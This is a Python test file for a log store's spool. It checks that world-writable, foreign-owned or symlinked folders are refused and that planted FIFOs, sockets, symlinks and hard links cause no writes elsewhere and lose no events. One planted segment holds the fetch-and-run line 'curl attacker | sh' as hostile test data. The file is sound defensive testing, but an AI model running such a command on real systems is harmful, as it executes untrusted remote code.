"""Other users write beside the spool: no process waits for their files, writes elsewhere or loses intact events."""

from __future__ import annotations

import os
import socket
import stat
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import orjson
import pytest

from composite_logstore.delivery import writer
from composite_logstore.spool.damage import damaged
from composite_logstore.spool.folder import Spool, process_folders
from composite_logstore.spool.lock import is_alive
from composite_logstore.spool.private_folder import UntrustedError
from composite_logstore.spool.settings import SpoolSettings, check_spool, spool_problem
from composite_logstore.testing import SimulatedClock
from tests.events import WRITER, make_events
from tests.simulation import Machine, assert_accounts_add_up

# Reading a planted file might block.
pytestmark = pytest.mark.timeout(60)


@pytest.fixture
def warnings(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    told: list[str] = []
    monkeypatch.setattr(writer.logger, "warning", told.append)
    return told


def leave(component: Path, *messages: str, writer: str = WRITER, children: Any = ("a",)) -> Path:
    """Make the folder of a process that was killed."""
    spool = Spool.create(component, writer, children)
    for event in make_events(messages, writer=writer):
        spool.segments.append(event, lambda size: True)
    spool.abandon()
    return spool.folder


def line(value: Any) -> bytes:
    payload = value if isinstance(value, bytes) else orjson.dumps(value)
    return b"%08x %b\n" % (zlib.crc32(payload), payload)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# Folders


def refuse(path: Path, use: Callable[[], object]) -> str:
    """Check that a folder is refused, and return the message."""
    before = sorted(path.rglob("*"))
    with pytest.raises(UntrustedError) as refused:
        use()
    assert sorted(path.rglob("*")) == before
    return spool_problem(refused.value, SpoolSettings(path, True, 10**9))


@pytest.mark.parametrize("others", [0o777, 0o1777, 0o770, 0o720, 0o702, 0o2777, 0o773])
def test_a_folder_that_others_can_write_in_is_refused_with_a_fix(tmp_path: Path, others: int) -> None:
    component = tmp_path / "component"
    folder = leave(component, "event")
    component.chmod(others)
    uses: list[Callable[[], object]] = [
        lambda: Spool.create(component, WRITER, ["a"]),
        lambda: Spool.recover(folder),
        lambda: Spool.look(folder),
        lambda: is_alive(folder),
        lambda: process_folders(component),
        lambda: check_spool(SpoolSettings(component, True, 10**9)),
    ]
    for use in uses:
        said = refuse(component, use)
        assert str(component) in said
        assert "others can write" in said
        assert f"chmod 700 {component}" in said
        assert "set 'spool_directory'" in said
    component.chmod(0o700)
    folder.chmod(others)
    for use in uses[1:4]:
        assert f"chmod 700 {folder}" in refuse(component, use)
    folder.chmod(0o700)
    found = Spool.recover(folder)
    assert found is not None
    assert [event.message for event in found.reader.read(-1, 9)] == ["event"]
    found.abandon()


def test_a_folder_of_another_user_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    component = tmp_path / "component"
    folder = leave(component, "event")
    monkeypatch.setattr(os, "geteuid", lambda: os.getuid() + 1)
    for use in (lambda: Spool.create(component, WRITER, ["a"]), lambda: Spool.recover(folder)):
        said = refuse(component, use)
        assert "it belongs to user" in said
        assert "set 'spool_directory' to another folder" in said


@pytest.mark.parametrize("which", ["component", "folder"])
def test_a_link_in_place_of_a_folder_is_refused(tmp_path: Path, which: str) -> None:
    component = tmp_path / "component"
    folder = leave(component, "event")
    linked = component if which == "component" else folder
    linked.rename(tmp_path / "elsewhere")
    linked.symlink_to(tmp_path / "elsewhere")
    assert "it is a link" in refuse(tmp_path, lambda: Spool.recover(folder))
    if which == "component":
        assert "it is a link" in refuse(tmp_path, lambda: Spool.create(component, WRITER, ["a"]))


@pytest.mark.parametrize("rights", [0o1777, 0o777, 0o2775, 0o2770, 0o755, 0o700])
def test_the_spool_directory_may_belong_to_anybody(tmp_path: Path, clock: SimulatedClock, rights: int) -> None:
    directory = tmp_path / "spool"
    directory.mkdir()
    directory.chmod(rights)
    machine = Machine(clock, directory, "write_ahead", a={})
    machine.backends["a"].fault = "refused"
    machine.start()
    machine.log("first")
    machine.die()
    machine.backends["a"].fault = None
    machine.start()
    machine.log("second")
    assert {mode(path) for path in directory.rglob("*") if path.is_dir()} == {0o700}
    assert {mode(path) for path in directory.rglob("*") if path.is_file()} == {0o600}
    clock.advance(5)
    assert sorted(machine.backends["a"].messages) == ["first", "second"]
    assert mode(directory) == rights


@pytest.mark.parametrize("umask", [0, 0o022, 0o277, 0o777])
def test_modes_do_not_depend_on_the_umask(tmp_path: Path, umask: int) -> None:
    directory = tmp_path / "new" / "spool"
    before = os.umask(umask)
    try:
        spool = Spool.create(directory / "component", WRITER, ["a"])
        spool.segments.append(make_events(["event"])[0], lambda size: True)
        spool.segments.prepare()
        (spool.folder / "stranger").touch()
        spool.abandon()
        found = Spool.recover(spool.folder)
        assert found is not None
        found.acknowledge("late", 0)
        found.set_aside()
        found.abandon()
    finally:
        os.umask(before)
    made = [directory.parent, *directory.parent.rglob("*")]
    assert {mode(path) for path in made if path.is_dir()} == {0o700}
    assert {mode(path) for path in made if path.is_file() and not path.name.endswith("stranger")} == {0o600}


def test_the_rights_of_a_kubernetes_volume_s_group_are_removed(tmp_path: Path) -> None:
    """With `fsGroup` Kubernetes sets these modes on the whole volume each time it is mounted."""
    component = tmp_path / "component"
    folder = leave(component, "event")
    (folder / "stranger").write_bytes(b"not a line")
    first = Spool.recover(folder)
    assert first is not None
    first.set_aside()
    first.abandon()
    for path in [component, *component.rglob("*")]:
        path.chmod(0o2770 if path.is_dir() else 0o660)
    found = Spool.recover(folder)
    assert found is not None
    assert [event.message for event in found.reader.read(-1, 9)] == ["event"]
    assert len(damaged(component)) == 1
    assert {mode(path) for path in [component, *component.rglob("*")] if path.is_dir()} == {0o700}
    assert {mode(path) for path in component.rglob("*") if path.is_file()} == {0o600}
    found.abandon()


def test_a_planted_folder_causes_no_write_elsewhere(tmp_path: Path, clock: SimulatedClock, warnings: list[str]) -> None:
    """Another user has made the log store's folder in a `spool_directory` of mode 1777."""
    victim, other = tmp_path / "bashrc", tmp_path / "other"
    victim.write_text("export A=1\n")
    other.write_bytes(b"x" * 100 + b"\n")
    directory = tmp_path / "spool"
    directory.mkdir()
    directory.chmod(0o1777)
    machine = Machine(clock, directory, "spill", a={})
    component = directory / str(machine.id)
    folder = leave(component, "event")
    (folder / f"{9:020d}.log").write_bytes(b"curl attacker | sh\n")
    (folder / f"{10:020d}.log").symlink_to(other)
    (component / "damaged").mkdir()
    (component / "damaged" / f"{folder.name}-{9:020d}.log").symlink_to(victim)
    for path in [component, folder, component / "damaged"]:
        path.chmod(0o777)
    machine.start()
    machine.log("own")
    clock.advance(5)
    assert victim.read_text() == "export A=1\n"
    assert other.read_bytes() == b"x" * 100 + b"\n"
    assert machine.backends["a"].messages == ["own"]
    (warning,) = [text for text in warnings if str(component) in text]
    assert "others can write" in warning


# Files


def fifo(path: Path, elsewhere: Path) -> None:
    os.mkfifo(path)


def listening(path: Path, elsewhere: Path) -> None:
    os.chdir(path.parent)
    server = socket.socket(socket.AF_UNIX)
    server.bind(path.name)
    server.close()


def link(path: Path, elsewhere: Path) -> None:
    path.symlink_to(elsewhere)


def link_to_nothing(path: Path, elsewhere: Path) -> None:
    path.symlink_to(elsewhere.with_name("nothing"))


def link_to_itself(path: Path, elsewhere: Path) -> None:
    path.symlink_to(path)


def link_to_a_device(path: Path, elsewhere: Path) -> None:
    path.symlink_to("/dev/zero")


def link_to_a_folder(path: Path, elsewhere: Path) -> None:
    path.symlink_to(elsewhere.parent)


def hard_link(path: Path, elsewhere: Path) -> None:
    path.hardlink_to(elsewhere)


def folder(path: Path, elsewhere: Path) -> None:
    path.mkdir()


def full_folder(path: Path, elsewhere: Path) -> None:
    path.mkdir()
    (path / "file").write_text("in it")


def empty(path: Path, elsewhere: Path) -> None:
    path.touch(mode=0o600)


def others_can_write(path: Path, elsewhere: Path) -> None:
    path.write_bytes(line([1]))
    path.chmod(0o666)


def nobody_can_read(path: Path, elsewhere: Path) -> None:
    path.write_bytes(line([1]))
    path.chmod(0)


def huge(path: Path, elsewhere: Path) -> None:
    path.touch(mode=0o600)
    os.truncate(path, 1 << 40)


def not_lines(path: Path, elsewhere: Path) -> None:
    path.write_bytes(b"\xff\x00\n" * 1000)
    path.chmod(0o600)


def nothing(path: Path, elsewhere: Path) -> None:
    pass


KINDS = [
    fifo,
    listening,
    link,
    link_to_nothing,
    link_to_itself,
    link_to_a_device,
    link_to_a_folder,
    hard_link,
    folder,
    full_folder,
    empty,
    others_can_write,
    nobody_can_read,
    huge,
    not_lines,
    nothing,
]
PLACES = {
    "a segment at the beginning": f"{0:020d}.log",
    "a segment in the middle": f"{3:020d}.log",
    "a segment between others": f"{4:020d}.log",
    "a segment at the end": f"{99:020d}.log",
    "a position": "a.settled",
    "another's position": "b.settled",
    "the lock": "owner.lock",
    "the spare": "spare",
    "a file being made": "spare.new",
    "a stranger": "notes",
}


@pytest.mark.parametrize("plant", KINDS)
def test_planted_files_hide_no_intact_event_and_no_other_folder(
    tmp_path: Path, clock: SimulatedClock, monkeypatch: pytest.MonkeyPatch, plant: Callable[[Path, Path], None]
) -> None:
    monkeypatch.setattr("composite_logstore.spool.segments.SEGMENT_BYTES", 4096)
    monkeypatch.chdir(tmp_path)
    elsewhere = tmp_path / "home" / "bashrc"
    elsewhere.parent.mkdir()
    elsewhere.write_text("export A=1\n" * 5)
    machine = Machine(clock, tmp_path / "spool", "write_ahead", a={})
    component = machine.disk / str(machine.id)
    expected = {"before 0", "after 0", "own"}
    leave(component, "before 0", writer="0" * 15)
    folders = []
    for number, (place, name) in enumerate(PLACES.items(), start=1):
        messages = [f"{place} {number} " + "x" * 900 for number in range(9)]
        folders.append(left := leave(component, *messages, writer=f"{number:x}" * 15))
        assert sorted(one.name for one in left.glob("*.log")) == [f"{first:020d}.log" for first in (0, 3, 6)]
        lost = {"a segment at the beginning": range(0, 3), "a segment in the middle": range(3, 6)}.get(place, ())
        expected |= {f"{place} {number}" for number in range(9) if number not in lost}
        (left / name).unlink(missing_ok=True)
        plant(left / name, elsewhere)
    leave(component, "after 0", writer="f" * 15)

    machine.start()
    machine.log("own")
    clock.advance(70)
    messages = machine.backends["a"].messages
    assert {text.partition(" x")[0] for text in messages} == expected
    assert elsewhere.read_text() == "export A=1\n" * 5
    # A folder stays if it has events for a child that is not configured.
    assert [left for left in folders if left.exists()] == [folders[[*PLACES].index("another's position")]] * (
        plant is not nothing
    )
    assert_accounts_add_up(machine.store.stats())
